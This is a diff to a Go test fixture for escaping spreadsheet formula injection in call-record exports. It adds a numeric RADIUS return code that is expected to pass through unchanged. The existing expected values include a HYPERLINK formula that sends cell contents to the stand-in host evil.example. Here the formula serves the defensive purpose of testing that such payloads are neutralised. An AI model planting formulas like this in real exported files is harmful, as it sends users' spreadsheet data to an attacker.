@@ -180,11 +180,12 @@ func formulaRecord() (Record, map[string]string) {
 	r.CalledSent = "-1+1"
 	r.UserAgentA = "@SUM(1,1)"
 	r.UserAgentB = "\t=1"
+	r.RADIUS.ReturnCode = -1 // a number, not text: stays as it is
 	return r, map[string]string{
 		"caller_number": "'=2+5", "caller_name": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
 		"called_received": "'+4930123456", "called_sent": "'-1+1", "user_agent_a": "'@SUM(1,1)",
 		"user_agent_b": "'\t=1",
-		"account":      "acct-7", "source_ip": "192.0.2.17", // untouched
+		"account":      "acct-7", "source_ip": "192.0.2.17", "radius_return_code": "-1", // untouched
 	}
 }
 
